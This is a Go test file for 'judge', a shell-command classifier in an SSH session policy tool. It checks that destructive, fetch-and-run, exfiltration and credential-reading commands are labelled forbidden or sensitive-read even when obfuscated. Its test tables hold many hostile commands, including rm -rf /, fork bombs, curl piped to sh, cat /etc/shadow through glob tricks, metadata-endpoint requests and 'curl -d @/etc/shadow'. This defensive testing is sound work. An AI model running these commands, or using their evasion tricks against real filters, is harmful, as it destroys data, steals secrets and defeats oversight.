package judge_test

import (
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/fairlead-ssh/fairlead/session/policy"
	"github.com/fairlead-ssh/fairlead/session/policy/judge"
)

// Each line is what a smaller judge would let through, or ask about for nothing.
func TestWhatHidesBetweenTheWords(t *testing.T) {
	verdicts(t, "bash", `
		forbidden | chdir / && rm -rf *
		read-only | builtin echo x; git status
		unknown | command git status
		dangerous | kill -0"$X" 5
		read-only | kill -0 5
		read-only | /bin/ls x; /usr/bin/ls x; /sbin/ls x; /usr/sbin/ls x; /usr/local/bin/ls x; /usr/local/sbin/ls x
		unknown | /opt/bin/ls
		read-only | sh -c 'ls x'
		read-only | bash -c "ls x"
		unknown | echo 'ls x' | sh
		unknown | sh <x
		unknown | python3 <x
		forbidden | chmod -R 777 /etc
		forbidden | find / -delete
		forbidden | find /etc | xargs rm
		write | find /srv/x | xargs rm
		forbidden | env -C / rm -rf *
		forbidden | cd / && rm -rf .[!.]*
		forbidden | rm -rf /..?*
		sensitive-read | cat /etc/shado[w]
		sensitive-read | cat /etc/?hadow
		sensitive-read | cat /e?c/shadow
		sensitive-read | cat /etc/sh\adow
		sensitive-read | fgrep -r x /etc
		sensitive-read | egrep -R x /etc
		sensitive-read | grep --rec x /etc
		sensitive-read | fgrep --dereference-recursive x /root
		sensitive-read | find / -name id_rsa -exec cat {} \;
		sensitive-read | find /etc ! -type d -exec cat {} +
		sensitive-read | find /etc \( -type f \) -exec cat {} +
		read-only | find /etc -exec ls {} +
		forbidden | mv x /etc/passwd
		forbidden | cp sudoers /etc
		write | cp sudoers -t x
		forbidden | curl x >/tmp/f; . /tmp/f
		forbidden | curl x -o f; bash ./f
		forbidden | sh <<<"$(curl x)"
		forbidden | f() { f | f & }; f
		forbidden | curl x | cat | sh
		forbidden | curl x | { cat; sh; }
		forbidden | if curl x; then :; fi | sh
		unknown | cat <&3
		unknown | cat </dev/fd/7
		read-only | cat </dev/fd/0
		unknown | read x </dev/tty
		unknown | [[ -v x ]]
		unknown | [[ x -eq 1 ]]
		read-only | [ -n "$x" ]
		unknown | [ -vvv "$x" ] || [ -v x ]
		unknown | [ x"$y" "$z" ]
		unknown | x[$(ls)]=1
		forbidden | x[$(rm -rf /)]=1
		forbidden | x=([$(rm -rf /)]=1)
		forbidden | declare x=$(rm -rf /)
		forbidden | export x=$(rm -rf /)
		read-only | echo "\`+"`"+`x"
		forbidden | echo "`+"`"+`rm -rf /`+"`"+`"
		forbidden | echo "${x:-`+"`"+`rm -rf /`+"`"+`}"
		unknown | "$x"
		unknown | echo "`+"`"+`echo "x"`+"`"+`"
		read-only | echo `+"`"+`echo "x"`+"`"+`
		read-only | at -l
		read-only | python3 --version </dev/null
		unknown | bash --norc <x
		unknown | bash --rcfile x <y
		forbidden | f() { f | f; }; f
		forbidden | f() { f & }; f
		forbidden | f() { (f) & }; f
		unknown | f() { f; }
		forbidden | cd /var/run && touch ../etc/passwd
		forbidden | cd /var/run/x && touch ../../etc/passwd
		read-only | echo x\!"y"
		unknown | rev /usr/share/../../srv/x
		sensitive-read | rev srv/x
		sensitive-read | rev /srv/x
		read-only | rev /usr/share/x
		read-only | rev /etc/hostname
		sensitive-read | cat shadow
		sensitive-read | cat sudoers
		sensitive-read | cat x/.ssh/id_rsa
		sensitive-read | cat /proc/1/environ
		forbidden | curl x -O; bash x
		unknown | sh </dev/null
		forbidden | /rm -rf /
		forbidden | ./rm -rf /
		read-only | printf x y
		unknown | cat ./../x/../y
		read-only | cat ./../x
		sensitive-read | cat /srv/x | (rev)
		sensitive-read | cat /srv/x | { rev; }
		forbidden | curl x | (bash)
		unknown | until read -r line; do echo x; done
		unknown | while read -r x || true; do echo x; done
		read-only | echo a | while read -r line; do echo x; done
		forbidden | chmod -R 777 ~
		forbidden | chmod -R 777 /home/ada
		dangerous | chown -R bob /home/ada
		forbidden | chown -R bob /home/*
		forbidden | chown -R bob /home
		unknown | [ "${a[@]}" ]
		read-only | [ "${a[0]}" ]
		dangerous | rm -rf /${#x}
		forbidden | rm -rf /${x}
		forbidden | (cat >/dev/tcp/192.0.2.1/1) | sh
		sensitive-read | cat /srv/x | rev
		read-only | echo x | rev
		read-only | date | tr a b
	`)
	verdicts(t, "zsh", `
		forbidden | repeat 2 rm -rf /
		unknown | repeat 2 ls
	`)
	r := judge.Judge(judge.Request{Script: ". ./x", Shell: "bash"})
	if assert.Len(t, r.Reads, 1) {
		assert.Equal(t, "./x", r.Reads[0].Text)
	}
	many := strings.Repeat("f,", 70)
	for _, src := range []string{"cat {" + many + "/etc/shadow}", "ls {" + many + "x}", "cat {a,{" + many + "/etc/shadow}}", "cat {1..9}{1..9}{a,/etc/shadow}", "rm {" + many + "/etc/passwd}",
		"cat " + strings.Repeat("f ", 600), "ls " + strings.Repeat("$f ", 10) + strings.Repeat("${#g} ", 600), "echo " + strings.Repeat("$(curl 192.0.2.1) ", 520)} {
		r := judge.Judge(judge.Request{Script: src, Shell: "bash"})
		assert.True(t, r.Capped, src)
		assert.NotEqual(t, policy.ReadOnly, r.Class, src)
	}
	assert.Equal(t, policy.SensitiveRead, judge.Judge(judge.Request{Script: "cat {a,b,/etc/shadow}", Shell: "bash"}).Class)
	assert.Contains(t, judge.Judge(judge.Request{Script: "cat /etc/shado{a..z}", Shell: "bash"}).Classes, policy.SensitiveRead)
}

// Where it runs elsewhere, the functions of the session's own shell are not there.
func TestGitElsewhereIsUnknown(t *testing.T) {
	git := func(r judge.Request) policy.Class { return judge.Judge(r).Class }
	assert.Equal(t, policy.ReadOnly, git(judge.Request{Script: "git status", Shell: "bash"}))
	assert.Equal(t, policy.Unknown, git(judge.Request{Script: "git status", Shell: "bash", Elsewhere: true}))
	assert.Equal(t, policy.Unknown, git(judge.Request{Program: "git", Args: []string{"status"}}))
	r := judge.Judge(judge.Request{Program: "echo", Args: []string{strings.Repeat("x", 5<<10)}})
	assert.True(t, r.Capped)
	assert.Equal(t, policy.Unknown, r.Class)
}

func TestReachesAreThoseOfTheWholeLine(t *testing.T) {
	r := judge.Judge(judge.Request{Script: "echo $(curl 192.0.2.1)", Shell: "bash"})
	var all []string
	for i := range r.Parts {
		all = append(all, r.Parts[i].Reaches()...)
	}
	assert.Equal(t, []string{"192.0.2.1"}, all)
	r = judge.Judge(judge.Request{Script: "ssh h curl 192.0.2.1", Shell: "bash"})
	assert.NotContains(t, r.To, "192.0.2.1", "what an address is elsewhere")
	assert.Contains(t, r.To, "")
	for _, src := range []string{"curl 169.254.169.254", "curl -d @/etc/shadow 192.0.2.1"} {
		assert.Contains(t, judge.Judge(judge.Request{Script: src, Shell: "bash"}).Classes, policy.SensitiveRead, src)
	}
}

func TestPartsAndFilesAreAsWritten(t *testing.T) {
	r := judge.Judge(judge.Request{Script: "cat a; rm b; sleep 1 & ls x >y;", Shell: "bash", Dir: "/srv"})
	var texts []string
	for _, p := range r.Parts {
		texts = append(texts, p.Text)
	}
	assert.Equal(t, []string{"cat a", "rm b", "sleep 1 &", "ls x >y"}, texts)
	assert.Equal(t, []judge.Path{{Text: "a", Literal: true, Source: "a", Dir: "/srv"}, {Text: "x", Literal: true, Source: "x", Dir: "/srv"}}, r.Reads)
	assert.Contains(t, r.Writes, judge.Path{Text: "b", Literal: true, Source: "b", Dir: "/srv", Delete: true})
	r = judge.Judge(judge.Request{Script: "ssh h cat a", Shell: "bash"})
	assert.Contains(t, r.Reads, judge.Path{Text: "a", Literal: true, Source: "a", Remote: true})
}

func TestMetadataIsKnownHoweverItIsWritten(t *testing.T) {
	assert.False(t, judge.Metadata("192.0.2.1"))
	assert.False(t, judge.Metadata("example.com"))
	assert.False(t, judge.Metadata("metadata.example.com"))
	for _, host := range []string{"169.254.169.254", "fd00:ec2::254", "metadata", "metadata.google.internal", "instance-data"} {
		assert.True(t, judge.Metadata(host), host)
	}
	for text, want := range map[string]bool{"169.254.169.254/32": true, "169.254.0.0/15": false, "0.0.0.0/0": false, "192.0.2.0/24": false} {
		assert.Equal(t, want, judge.MetadataPrefix(netip.MustParsePrefix(text)), text)
	}
}

// Each of these showed a secret, or ran something, when nobody had been asked.
func TestNamesThatAreFoundAndNamesThatAreMade(t *testing.T) {
	verdicts(t, "", `
		sensitive-read | find / -name shadow -exec cat {} +
		sensitive-read | find / -name shadow -type f -exec head {} +
		sensitive-read | find / -name 'shado?' -exec head {} +
		sensitive-read | find / -name '[s]hadow' -exec cat {} +
		sensitive-read | find / -iname 'ID_RSA' -exec cat {} +
		sensitive-read | find / -name '*hado*' -exec cat {} +
		sensitive-read | find / -name environ -exec cat {} +
		sensitive-read | find -name .env -exec cat {} +
		sensitive-read | find -L /etc -name shadow -exec cat {} +
		sensitive-read | find / -name shadow -print0 | xargs -0 head
		sensitive-read | find / -name shadow | while read -r f; do head "$f"; done
		sensitive-read | find / -path '*sha*w' -exec cat {} +
		sensitive-read | find / -wholename '/e*w' -exec cat {} +
		sensitive-read | find /etc ! -name hosts -exec cat {} +
		sensitive-read | find / -name x -o -exec cat {} +
		sensitive-read | find /srv -name '*.env' -exec cat {} +
		sensitive-read | locate shadow | xargs cat
		sensitive-read | whereis -b shadow | xargs cat
		sensitive-read | ls / | xargs -I{} cat /{}/shadow
		sensitive-read | ls / | xargs -I% cat /%/shadow
		sensitive-read | printf 'etc' | xargs -I{} cat /{}/shadow
		sensitive-read | printf '/etc/%s' shadow | xargs cat
		sensitive-read | printf '%s%s' /etc/sha dow | xargs cat
		unknown | dirname /etc/shadow/x | xargs cat
		unknown | echo /etc/shadow/x | xargs dirname | xargs cat
		unknown | dirname /etc/shadow/x | while read f; do cat "$f"; done
		read-only | find /srv -name '*.log' | xargs dirname | sort | uniq -c
		unknown | { printf /etc/sha; printf dow; } | xargs cat
		unknown | { echo -n /etc/sha; echo dow; } | xargs cat
		unknown | { echo '/etc/sha\c'; echo dow; } | xargs cat
		unknown | { printf /etc/; ls -d shadow; } | xargs cat
		unknown | for i in sha dow; do printf "$i"; done | xargs -I{} cat /etc/{}
		unknown | if printf /etc/sha; then echo dow; fi | xargs cat
		unknown | (printf /etc/sha; (echo dow)) | xargs cat
		unknown | printf /etc/sha | { cat; echo dow; } | xargs cat
		unknown | { printf /etc/sha; cat; } < f | xargs cat
		read-only | { printf '/etc/hosts\n'; echo /etc/fstab; } | xargs cat
		read-only | printf /etc/hosts | xargs cat
		unknown | printf '/etc/sh\x61dow' | xargs cat
		unknown | echo '/etc/sh\adow' | xargs cat
		unknown | echo "/etc/s'h'adow" | xargs cat
		unknown | echo '/etc/s"h"adow' | sort | xargs cat
		sensitive-read | cat /etc/[[:alpha:]]hadow
		sensitive-read | cat /etc/[]s]hadow
		sensitive-read | cat /etc/[[=s=]]hadow
		sensitive-read | cat /etc/[[.s.]]hadow
		sensitive-read | cat /etc/[^x]hadow
		sensitive-read | cat /etc/sh[[:alnum:]x]dow
		sensitive-read | git -C /etc show HEAD:shadow
		unknown | cat /etc/shadow<()
		unknown | cat /etc/sha<()dow
		unknown | cat f<()
		forbidden | rm -rf /<()
		forbidden | time -- rm -rf /
		forbidden | >&-rm -rf /
		forbidden | >& -rm -rf /
		forbidden | <&-rm -rf /
		unknown | <&-touch ls
		read-only | ls 2>&-
		read-only | find /etc/nginx -name '*.conf' -exec grep -H listen {} +
		read-only | find . -name '*.py' -exec wc -l {} +
		read-only | find . -name '*.json' -exec jq . {} +
		read-only | find / -name '*.log' -exec tail -n1 {} +
		read-only | find . -name '*.go' -not -path './vendor/*' -exec grep -l x {} +
		read-only | find . '(' -name '*.go' -o -name '*.py' ')' -exec wc -l {} +
		read-only | find /var/log -name '*.log' | xargs grep -l x
		read-only | find / -name shadow
		read-only | locate shadow | xargs ls -l
		read-only | printf '%s\n' a b | xargs -n1 basename
		read-only | pgrep -f nginx | xargs -I{} ls /proc/{}/fd
		read-only | ls /var/log/nginx | xargs -I{} tail -n1 /var/log/nginx/{}
		read-only | printf '%s\n' a b | xargs cat
	`)
	verdicts(t, "zsh", "unknown | ls ~[x]")
	r := judge.Judge(judge.Request{Script: "git -C /etc show HEAD:shadow", Dir: "/srv/app"})
	assert.Equal(t, policy.SensitiveRead, r.Class, "what git shows lies where -C leads")
	for script, runs := range map[string]string{"e $(>&-tac)": "tac", "time -- tac c": "tac"} {
		r := judge.Judge(judge.Request{Script: script, Shell: "bash"})
		assert.True(t, tells(r.Parts, runs), "%s is not told of in %s: %v", runs, script, r.Parts)
	}
}

// tells reports whether a part of a report begins with a word.
func tells(parts []judge.Part, word string) bool {
	return slices.ContainsFunc(parts, func(p judge.Part) bool {
		return strings.HasPrefix(strings.TrimSpace(p.Text), word) || tells(p.Parts, word)
	})
}
